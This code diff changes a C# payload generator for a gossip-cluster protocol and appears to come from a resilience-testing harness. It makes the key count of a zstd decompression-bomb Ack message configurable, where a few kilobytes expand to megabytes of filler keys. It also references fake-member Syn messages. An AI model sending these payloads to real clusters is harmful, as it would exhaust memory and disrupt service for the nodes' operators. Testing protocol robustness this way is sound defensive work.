@@ -10,7 +10,9 @@ internal sealed class AttackPayloads
     /// <summary>The digest of a fake-members Syn stops growing at this many bytes (a datagram holds 65,507).</summary>
     private const int FakeDigestBudget = 64_000;
 
-    private const int BombKeyCount = 60;
+    /// <summary>The keys a zstd-bomb Ack decodes to by default: 60 of 60,000 bytes, 3.6 MB from 5.8 KB.</summary>
+    public const int DefaultBombKeyCount = 60;
+
     private const int BombKeyLength = 60_000;
 
     private readonly AttackKind _kind;
@@ -19,10 +21,12 @@ internal sealed class AttackPayloads
     private readonly ulong _targetMaxVersion;
     private readonly Random _random;
     private readonly byte[]? _fixed;
+    private readonly int _bombKeyCount;
     private long _sequence;
 
-    public AttackPayloads(AttackKind kind, string clusterId, ChitchatId? targetId, ulong targetMaxVersion, int seed)
+    public AttackPayloads(AttackKind kind, string clusterId, ChitchatId? targetId, ulong targetMaxVersion, int seed, int bombKeyCount = DefaultBombKeyCount)
     {
+        _bombKeyCount = bombKeyCount;
         _kind = kind;
         _clusterId = clusterId;
         _targetId = targetId;
@@ -94,13 +98,13 @@ internal sealed class AttackPayloads
     private byte[] ZstdBombAck()
     {
         var filler = new string('z', BombKeyLength);
-        var keyValues = new List<KeyValueMutation>(BombKeyCount);
-        for (var i = 0; i < BombKeyCount; i++)
+        var keyValues = new List<KeyValueMutation>(_bombKeyCount);
+        for (var i = 0; i < _bombKeyCount; i++)
         {
-            keyValues.Add(new KeyValueMutation(string.Concat(i.ToString("D2", CultureInfo.InvariantCulture), filler), "v", (ulong)i + 1, DeletionStatus.Set));
+            keyValues.Add(new KeyValueMutation(string.Concat(i.ToString("D3", CultureInfo.InvariantCulture), filler), "v", (ulong)i + 1, DeletionStatus.Set));
         }
 
-        var delta = Delta.FromNodeDeltas([new NodeDelta(FakeId(), 0, 0, BombKeyCount, keyValues)]);
+        var delta = Delta.FromNodeDeltas([new NodeDelta(FakeId(), 0, 0, (ulong)_bombKeyCount, keyValues)]);
         return new ChitchatMessage.Ack(delta).SerializeToArray();
     }
 
